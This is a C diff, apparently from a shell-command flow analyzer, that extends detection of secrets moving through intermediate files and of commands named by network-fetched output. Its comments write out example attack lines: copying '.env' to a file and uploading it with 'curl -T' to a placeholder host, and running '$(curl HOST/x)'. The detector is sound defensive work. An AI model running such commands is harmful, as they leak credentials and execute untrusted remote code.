@@ -81,6 +81,40 @@ static void spread(const cp_judge *j, uint8_t *reached, bool through_stdin) {
     }
 }
 
+/* A path that is surely written, or read, as it is. */
+static bool exact_path(cp_judge *j, uint32_t effect, cp_path *out) {
+    const cp_call_effect *e = &j->calls->effects[effect];
+    if (e->effect.object_kind != CP_OBJECT_PATH || e->call >= j->calls->call_count)
+        return false;
+    cp_path_make(j->arena, &e->effect.target, e->base.count == 1 ? &e->base.values[0] : NULL,
+                 j->facts->places, out);
+    return out->exact;
+}
+
+enum { REACHED_BY_FILE = 2 };
+
+/* cat .env > x; curl -T x HOST: calls that read a file that a reached call before them wrote. */
+static bool spread_by_files(cp_judge *j, uint8_t *reached) {
+    const cp_calls *calls = j->calls;
+    bool changed = false;
+    cp_path written, read;
+    for (uint32_t i = 0; i < calls->effect_count && cp_step(j->budget); i++) {
+        const cp_call_effect *e = &calls->effects[i];
+        if (e->effect.kind != CP_EFFECT_WRITE || e->effect.sure != CP_YES || e->call >= calls->call_count ||
+            !reached[e->call] || !exact_path(j, i, &written))
+            continue;
+        for (uint32_t k = 0; k < calls->effect_count && cp_step(j->budget); k++) {
+            const cp_call_effect *r = &calls->effects[k];
+            if (r->effect.kind != CP_EFFECT_READ || r->call >= calls->call_count || r->call <= e->call ||
+                reached[r->call] || !exact_path(j, k, &read) || !cp_slice_eq(read.text, written.text))
+                continue;
+            reached[r->call] = REACHED_BY_FILE;
+            changed = true;
+        }
+    }
+    return changed;
+}
+
 static bool range_reached(const cp_judge *j, const uint8_t *reached, uint32_t first, uint32_t count) {
     for (uint32_t k = 0; k < count && first + k < j->calls->call_count; k++)
         if (reached[first + k])
@@ -160,6 +194,16 @@ static bool is_fetched(cp_judge *j, const uint8_t *reached, const cp_value *file
     return false;
 }
 
+/* $(curl HOST/x), or read -r line; $line: is the command word what a reached call printed? */
+static bool names_command(const cp_judge *j, const uint8_t *reached, uint32_t call) {
+    for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++) {
+        const cp_flow *f = &j->calls->flows[i];
+        if (f->to == call && f->by_command && range_reached(j, reached, f->from_first, f->from_count))
+            return true;
+    }
+    return false;
+}
+
 /* The verdict of a flow into something that the call does. */
 static void count(cp_judge *j, uint32_t call, cp_verdict verdict) {
     if (call < j->calls->call_count)
@@ -178,6 +222,8 @@ static bool is_address(const cp_effect *read, const cp_effect *sink) {
  * address? */
 static bool is_apart(const cp_judge *j, uint32_t sink, uint32_t from, const uint8_t *reached) {
     const cp_call_effect *s = &j->calls->effects[sink];
+    if (reached[s->call] == REACHED_BY_FILE)
+        return false;
     for (uint32_t i = 0; i < j->calls->flow_count && cp_step(j->budget); i++) {
         const cp_flow *f = &j->calls->flows[i];
         if (f->to != s->call)
@@ -219,7 +265,9 @@ static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_fl
     memcpy(source, reached, calls);
     memcpy(by_words, reached, calls);
     read_by_redirection(j, flow->from, reached, by_words);
-    spread(j, reached, true);
+    do
+        spread(j, reached, true);
+    while (spread_by_files(j, reached) && cp_step(j->budget));
     spread(j, by_words, false);
     for (uint32_t i = 0; i < j->calls->effect_count && cp_step(j->budget); i++) {
         const cp_call_effect *sink = &j->calls->effects[i];
@@ -245,8 +293,9 @@ static void judge_flow(cp_judge *j, const cp_layer_image *layer, const cp_rec_fl
     }
     for (uint32_t i = 0; flow->from == CP_FLOW_NETWORK && flow->to == CP_FLOW_CODE && i < calls; i++) {
         const cp_call *call = &j->calls->calls[i];
-        if (call->identity == CP_IDENTITY_PATH && call->domain == CP_DOMAIN_LOCAL &&
-            is_fetched(j, reached, &call->command, call->cwd, i)) {
+        if (call->domain == CP_DOMAIN_LOCAL &&
+            ((call->identity == CP_IDENTITY_PATH && is_fetched(j, reached, &call->command, call->cwd, i)) ||
+             (call->identity == CP_IDENTITY_DYNAMIC && names_command(j, reached, i)))) {
             count(j, i, own);
             say(j, layer, flow, own, i, call->span, true);
         }
